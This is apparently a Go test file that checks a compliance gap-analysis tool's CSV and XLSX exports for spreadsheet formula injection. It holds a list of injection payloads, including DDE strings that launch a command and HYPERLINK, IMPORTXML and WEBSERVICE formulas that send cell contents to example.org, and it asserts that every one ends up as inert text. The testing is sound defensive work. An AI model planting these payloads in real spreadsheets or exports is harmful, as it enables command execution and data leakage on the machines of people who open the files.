// SPDX-License-Identifier: Apache-2.0
// SPDX-FileCopyrightText: 2026 The Concord authors

package gapanalysis_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io/fs"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"

	"concord/internal/ims/diagnosis"
	"concord/internal/knowledge/catalog"
	"concord/internal/platform/civil"
	"concord/internal/platform/press"
)

// payloads are texts that a spreadsheet would run, or split and then run.
var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
	" =1+1", "   +1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u3000＝1", "\u202e=1+1", "\x00=1", "\x0b=1", "\x1b=1",
	"=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
	`=HYPERLINK("http://example.org/?"&A1,"open")`, `=IMPORTXML(CONCAT("http://example.org/",A1),"//a")`, `=WEBSERVICE("http://example.org")`,
	"=1+1;=2+2", "x;=1+1", "x\t=1+1", "x\n=1+1", "x;\"=1+1\"", "x|=1+1", "x; =1+1", "x;-1+1", "\"=1+1\"", "'=1+1", "\"\"=1+1", ";=1+1", ",=1+1", "=A1\n=B1",
}

// poisoned are answers with payloads in every text a user can write.
func poisoned(list []string) *diagnosis.Answers {
	a := given(both)
	for i, p := range list {
		proof := func(months int) []diagnosis.Evidence {
			return []diagnosis.Evidence{{Title: p, Date: civil.MustParse("2026-05-04"), ReviewMonths: months, Link: "https://example.org/" + p, File: p}}
		}
		ref := func(standard int, id string) catalog.Ref { return catalog.Ref{Standard: both[standard], ID: id} }
		a.Answers = append(a.Answers,
			diagnosis.Answer{Ref: ref(0, fmt.Sprintf("A.5.%d", i+1)), Applicable: true, Level: 3, Evidence: proof(12), Note: p},
			diagnosis.Answer{Ref: ref(0, fmt.Sprintf("A.7.%d", i+1)), Applicable: true, Level: 4, Evidence: proof(1), Note: p},
			diagnosis.Answer{Ref: ref(0, fmt.Sprintf("A.8.%d", i+1)), Reason: p, Note: p},
			diagnosis.Answer{Ref: ref(0, []string{"4.1", "4.2", "4.3", "4.4", "5.1", "5.2", "5.3", "7.1"}[i]), Applicable: true, Level: 1, Note: p},
		)
	}
	a.Organization.Name, a.Organization.Sector = list[0], list[1]
	return a
}

func TestNoFormulaOfAUserReachesASpreadsheet(t *testing.T) {
	t.Parallel()
	for list := range slices.Chunk(payloads, 8) {
		t.Run("", func(t *testing.T) {
			t.Parallel()
			files, err := analyze(t, poisoned(list), nil).Print([]string{"csv", "xlsx"})
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range files {
				if strings.HasSuffix(f.Name, ".csv") {
					inertCSV(t, f)
					continue
				}
				for _, p := range list {
					inertXLSX(t, f, p)
				}
			}
		})
	}
}

var runs = regexp.MustCompile(`^[=+@＝＋＠-]|^－`)

// inertCSV reads a file the way it was written, and the way a spreadsheet does that expects another separator.
func inertCSV(t *testing.T, f press.File) {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", f.Name, err)
	}
	for _, record := range records {
		for _, cell := range record {
			inert(t, f.Name, cell)
		}
	}
	for _, separator := range []string{";", "\t", "|"} {
		for line := range strings.SplitSeq(string(f.Data), "\n") {
			for i, cell := range strings.Split(line, separator) {
				if i > 0 || !strings.Contains(line, ",") {
					inert(t, f.Name+" split at "+separator, strings.Trim(cell, `"`))
				}
			}
		}
	}
}

func inert(t *testing.T, where, cell string) {
	t.Helper()
	seen := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) })
	if _, err := strconv.ParseFloat(cell, 64); err != nil && runs.MatchString(seen) {
		t.Errorf("%s: a cell that computes: %q", where, cell)
	}
}

// inertXLSX reads the workbook with another program's eyes: no cell has a formula, and texts are texts.
func inertXLSX(t *testing.T, f press.File, payload string) {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader(f.Data))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close() //nolint:errcheck // read from only
	found := 0
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows {
			for x, text := range row {
				if !strings.Contains(text, strings.TrimSpace(strings.Trim(payload, "\x00\x0b\x1b\u200b\ufeff\u202e\r\n\t"))) {
					continue
				}
				found++
				cell, err := excelize.CoordinatesToCellName(x+1, y+1)
				if err != nil {
					t.Fatal(err)
				}
				formula, err := book.GetCellFormula(sheet, cell)
				kind, kindErr := book.GetCellType(sheet, cell)
				if err != nil || kindErr != nil || formula != "" || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
					t.Errorf("%s!%s: formula %q, type %v, %v, %v", sheet, cell, formula, kind, err, kindErr)
				}
			}
		}
	}
	if found == 0 {
		t.Errorf("the payload %q stands in no cell, so nothing was tested", payload)
	}
	noFormulaParts(t, f.Data)
}

// noFormulaParts looks into the archive itself.
func noFormulaParts(t *testing.T, data []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	formula := regexp.MustCompile(`<f[ >/]`)
	for _, part := range z.File {
		text, err := fs.ReadFile(z, part.Name)
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasPrefix(part.Name, "xl/worksheets/") && formula.Match(text) || strings.Contains(part.Name, "externalLink") {
			t.Errorf("%s holds a formula or a link", part.Name)
		}
	}
}
